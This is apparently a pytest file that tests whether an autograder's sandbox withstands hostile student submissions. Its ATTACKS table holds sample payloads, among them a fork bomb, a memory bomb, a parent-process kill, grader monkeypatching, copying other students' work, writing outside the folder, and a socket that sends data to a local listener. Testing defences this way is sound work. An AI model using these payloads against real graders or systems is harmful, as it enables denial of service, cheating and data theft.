"""Attacks on the grader and faults in student code, graded as one class.

Each attacker's submission must get exactly its expected score, the batch must complete,
and the honest students' results must be byte-identical to a run without the attackers.
Attacks that only bubblewrap (or the pids cgroup) can stop are skipped, with the reason,
where the platform lacks them.
"""
import shutil
import socket
import textwrap
import threading

import pytest

from autograder.classroom import grade_class
from autograder.isolation import ProcessCap, bubblewrap_prefix
from autograder.layout import REPO
from autograder.student import Limits

HAS_BWRAP = bool(bubblewrap_prefix("/tmp"))
HAS_PROCESS_CAP = ProcessCap(8).path is not None
LIMITS = Limits(call_seconds=3, memory_bytes=2 * 1024**3)
FULL = 35
# softmax is graded by softmax.value and softmax.stability and used by predict_proba
# (LinearClassifier.predict): an attack inside softmax costs exactly these 3 points.
WITHOUT_SOFTMAX = FULL - 3


def in_softmax(body):
    return "def softmax(scores):\n" + textwrap.indent(textwrap.dedent(body), "    ")


# name: (starting point, code appended to minidl/linear.py, exact score, what it needs)
ATTACKS = {
    "hang": ("solved", in_softmax("while True:\n    pass\n"), WITHOUT_SOFTMAX, None),
    "exit at import": ("solved", "import os\nos._exit(0)\n", 0, None),
    "exit in a call": ("solved", in_softmax("import os\nos._exit(3)\n"), WITHOUT_SOFTMAX, None),
    "SystemExit": ("solved", in_softmax("import sys\nsys.exit(0)\n"), WITHOUT_SOFTMAX, None),
    "memory bomb": ("solved", in_softmax("""
        hoard = []
        while True:
            hoard.append(bytearray(10**9))
        """), WITHOUT_SOFTMAX, None),
    "recursion bomb": ("solved", in_softmax("return softmax(scores)\n"), WITHOUT_SOFTMAX, None),
    "stdout flood, then a correct answer": ("solved", """
        _reference_softmax = softmax
        def softmax(scores):
            for _ in range(200_000):
                print("x" * 80)
            return _reference_softmax(scores)
        """, FULL, None),
    "file flood": ("solved", in_softmax("""
        with open("flood.txt", "w") as out:
            while True:
                out.write("x" * 1_000_000)
        """), WITHOUT_SOFTMAX, None),
    "ignores SIGTERM and hangs": ("solved", in_softmax("""
        import signal
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        signal.signal(signal.SIGINT, signal.SIG_IGN)
        while True:
            pass
        """), WITHOUT_SOFTMAX, None),
    "returns an object": ("solved", in_softmax("""
        class Sneaky:
            def __array__(self, dtype=None, copy=None):
                raise SystemExit
        return Sneaky()
        """), WITHOUT_SOFTMAX, None),
    "forges replies": ("solved", in_softmax("""
        import os
        for fd in range(3, 20):
            try:
                os.write(fd, b'{"id": 1, "ok": 1.0}\\n')
            except OSError:
                pass
        return 0
        """), WITHOUT_SOFTMAX, None),
    "patches the grader it can see": ("buggy", """
        import autograder.compare, autograder.framework
        autograder.compare.is_close = lambda *args, **kwargs: True
        autograder.framework.Fail = Exception
        """, FULL - 6, None),
    "fork bomb": ("solved", in_softmax("""
        import os
        while True:
            os.fork()
        """), WITHOUT_SOFTMAX, "pids"),
    "kills its parent": ("solved", in_softmax("""
        import os, signal
        os.kill(os.getppid(), signal.SIGKILL)
        os.killpg(0, signal.SIGKILL)
        """), WITHOUT_SOFTMAX, "bwrap"),
    "copies the reference solution": ("release", f"""
        import glob
        for path in [{str(REPO / "solutions" / "minidl" / "linear.py")!r}]:
            try:
                exec(open(path).read().replace("from minidl._validate", "from minidl._validate"))
            except OSError:
                pass
        """, 0, "bwrap"),
    "copies another student's work": ("release", """
        import glob
        for path in glob.glob("/tmp/**/minidl/linear.py", recursive=True):
            text = open(path).read()
            if "NotImplementedError" not in text:
                exec(text)
                break
        """, 0, "bwrap"),
    "writes outside its folder": ("release", f"""
        for path in [{str(REPO / "gradebook-attack.txt")!r}, "/tmp/attack.txt"]:
            try:
                open(path, "w").write("owned")
            except OSError:
                pass
        """, 0, "bwrap"),
    "phones home": ("release", """
        import socket
        try:
            socket.create_connection(("127.0.0.1", PORT), timeout=1).sendall(b"stolen")
        except OSError:
            pass
        """, 0, "bwrap"),
}

BUGGY_L2 = "\ndef l2_penalty(W, reg):\n    return reg * (W ** 2).sum(), reg * W\n"


@pytest.fixture(scope="module")
def listener():
    """A loopback server that records anything a submission manages to send it."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    received = []
    stop = threading.Event()

    def accept():
        while not stop.is_set():
            try:
                connection, _ = server.accept()
                received.append(connection.recv(100))
            except OSError:
                continue

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield server.getsockname()[1], received
    stop.set()
    thread.join()
    server.close()


def make_folder(destination, start, extra, solved_a1, released_a1):
    source = released_a1 if start == "release" else solved_a1
    folder = shutil.copytree(source, destination, ignore=shutil.ignore_patterns("__pycache__"))
    linear = folder / "minidl" / "linear.py"
    addition = BUGGY_L2 if start == "buggy" else ""
    linear.write_text(linear.read_text() + addition + "\n" + textwrap.dedent(extra))
    return folder


@pytest.fixture(scope="module")
def graded(tmp_path_factory, solved_a1, released_a1, listener):
    port, _ = listener
    honest = tmp_path_factory.mktemp("honest")
    everyone = tmp_path_factory.mktemp("everyone")
    for root in (honest, everyone):
        make_folder(root / "honest-solved", "solved", "", solved_a1, released_a1)
        make_folder(root / "honest-buggy", "buggy", "", solved_a1, released_a1)
    for number, (start, code, _, _) in enumerate(ATTACKS.values()):
        make_folder(everyone / f"attacker-{number:02d}", start,
                    code.replace("PORT", str(port)), solved_a1, released_a1)
    baseline = grade_class("a1_linear", honest, jobs=2, device="cpu", limits=LIMITS,
                           progress=False)
    reports = grade_class("a1_linear", everyone, jobs=2, device="cpu", limits=LIMITS,
                          progress=False)
    return baseline, reports


def test_honest_students_are_unaffected(graded):
    baseline, reports = graded
    assert baseline["honest-solved"].score == FULL
    assert baseline["honest-buggy"].score == FULL - 6
    for student, report in baseline.items():
        assert reports[student].to_json() == report.to_json()


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_attack_gets_exactly_its_score(attack, graded, listener):
    start, _, expected, needs = ATTACKS[attack]
    if needs == "bwrap" and not HAS_BWRAP:
        pytest.skip("needs bubblewrap (apt-get install bubblewrap) to isolate the file system")
    if needs == "pids" and not HAS_PROCESS_CAP:
        pytest.skip("needs a writable cgroup v1 pids controller to cap processes")
    _, reports = graded
    report = reports[f"attacker-{list(ATTACKS).index(attack):02d}"]
    assert report.score == expected, [(r.name, r.message) for r in report.results if not r.passed]
    if attack == "writes outside its folder":
        assert not (REPO / "gradebook-attack.txt").exists()
    if attack == "phones home":
        assert listener[1] == []


def test_at_least_twelve_distinct_attacks():
    assert len(ATTACKS) >= 12
